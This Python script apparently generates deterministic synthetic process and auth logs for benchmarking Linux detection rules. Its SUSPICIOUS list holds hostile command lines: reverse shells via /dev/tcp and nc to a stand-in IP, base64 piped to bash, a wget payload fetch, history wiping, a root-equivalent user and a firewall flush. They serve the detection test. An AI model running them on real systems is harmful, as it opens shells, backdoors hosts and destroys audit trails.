#!/usr/bin/env python3
"""Deterministic logs for bench/detection: JSON-lines process-creation events and auth.log lines.

Usage: generate.py OUT_DIR [MILLIONS_OF_EVENTS] [AUTH_LINES_MILLIONS]
Writes OUT_DIR/process.jsonl (one process creation per line, Sigma's taxonomy field names, as Sysmon for Linux or
an EDR export would give them) and OUT_DIR/auth.log (sshd, sudo, su, useradd, systemd-logind, CRON lines in the
syslog format). A small share of events is malicious-looking (reverse shells, history wiping, base64 piped to a
shell, new users, brute force) so rules fire; the rest is ordinary server activity that none of the SigmaHQ Linux rules flags (curl and find, which
rules flag at low levels, are left out of it so the alert volume stays realistic). The seed is fixed: the same
arguments always give the same bytes.
"""
import json
import random
import sys
from datetime import datetime, timedelta, timezone

SEED = 20261123
BENIGN = [
    ("/usr/bin/ls", "ls -la /var/www"), ("/usr/bin/grep", "grep -r error /var/log/nginx"),
    ("/usr/bin/python3", "python3 /opt/app/manage.py migrate"), ("/usr/bin/systemctl", "systemctl status nginx"),
    ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc"),
    ("/usr/sbin/nginx", "nginx -s reload"), ("/usr/bin/ps", "ps aux"), ("/usr/bin/cat", "cat /etc/os-release"),
    ("/usr/bin/git", "git -C /srv/app pull --ff-only"), ("/usr/bin/rsync", "rsync -a /srv/app/ /backup/app/"),
    ("/usr/bin/awk", "awk '{print $1}' access.log"), ("/usr/bin/sort", "sort -u /srv/app/ids.txt"),
]
SUSPICIOUS = [
    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"),
    ("/usr/bin/base64", "base64 -d /tmp/x | bash"),
    ("/usr/bin/rm", "rm -rf ~/.bash_history"),
    ("/usr/sbin/useradd", "useradd -o -u 0 toor"),
    ("/usr/bin/chmod", "chmod u+s /tmp/sh"),
    ("/usr/bin/wget", "wget http://198.51.100.9/x.sh -O /tmp/x.sh"),
    ("/usr/sbin/iptables", "iptables -F"),
    ("/usr/bin/crontab", "crontab -r"),
    ("/usr/bin/history", "history -c"),
]
PARENTS = ["/usr/bin/bash", "/usr/sbin/sshd", "/usr/lib/systemd/systemd", "/usr/sbin/cron", "/usr/bin/python3"]
USERS = ["root", "www-data", "alice", "bob", "deploy", "postgres"]


def process_events(out, count, rng):
    start = datetime(2026, 11, 22, tzinfo=timezone.utc)
    with open(out, "w") as f:
        for i in range(count):
            image, command = rng.choice(SUSPICIOUS) if rng.random() < 0.001 else rng.choice(BENIGN)
            parent = rng.choice(PARENTS)
            event = {
                "UtcTime": (start + timedelta(milliseconds=i * 3)).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
                "Computer": f"web-{i % 7 + 1}",
                "ProcessId": 1000 + i % 60000,
                "Image": image,
                "CommandLine": command,
                "CurrentDirectory": "/root" if rng.random() < 0.2 else "/srv/app",
                "User": rng.choice(USERS),
                "LogonId": rng.randrange(0, 5000),
                "ParentProcessId": 900 + i % 50000,
                "ParentImage": parent,
                "ParentCommandLine": parent.rsplit("/", 1)[1],
            }
            f.write(json.dumps(event, separators=(",", ":")) + "\n")


def auth_lines(out, count, rng):
    start = datetime(2026, 11, 22, tzinfo=timezone.utc)
    with open(out, "w") as f:
        for i in range(count):
            t = start + timedelta(milliseconds=i * 40)
            stamp = t.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1) if t.day < 10 else t.strftime("%b %d %H:%M:%S")
            pid = 2000 + i % 30000
            ip = f"203.0.113.{rng.randrange(1, 40)}" if rng.random() < 0.3 else f"10.0.{rng.randrange(0, 4)}.{rng.randrange(1, 250)}"
            user = rng.choice(USERS)
            r = rng.random()
            if r < 0.25:
                msg = f"sshd[{pid}]: Failed password for {'invalid user ' if rng.random() < 0.3 else ''}{user} from {ip} port {rng.randrange(30000, 65000)} ssh2"
            elif r < 0.45:
                msg = f"sshd[{pid}]: Accepted publickey for {user} from {ip} port {rng.randrange(30000, 65000)} ssh2: ED25519 SHA256:q0b8dK4vYxZr1m2n3o4p5q6r7s8t9u0v1w2x3y4z5A"
            elif r < 0.6:
                msg = f"sudo[{pid}]:    {user} : TTY=pts/{rng.randrange(0, 5)} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
            elif r < 0.7:
                msg = f"systemd-logind[512]: New session {i % 9000} of user {user}."
            elif r < 0.8:
                msg = f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            elif r < 0.801:
                msg = f"useradd[{pid}]: new user: name=svc{i % 100}, UID={1100 + i % 100}, GID={1100 + i % 100}, home=/home/svc{i % 100}, shell=/bin/bash, from=/dev/pts/0"
            elif r < 0.9:
                msg = f"sshd[{pid}]: Connection closed by authenticating user {user} {ip} port {rng.randrange(30000, 65000)} [preauth]"
            else:
                msg = f"su[{pid}]: (to root) {user} on pts/{rng.randrange(0, 5)}"
            f.write(f"{stamp} web-1 {msg}\n")


def main():
    out = sys.argv[1]
    millions = float(sys.argv[2]) if len(sys.argv) > 2 else 2
    auth_millions = float(sys.argv[3]) if len(sys.argv) > 3 else 1
    rng = random.Random(SEED)
    process_events(f"{out}/process.jsonl", int(millions * 1_000_000), rng)
    auth_lines(f"{out}/auth.log", int(auth_millions * 1_000_000), rng)


if __name__ == "__main__":
    main()
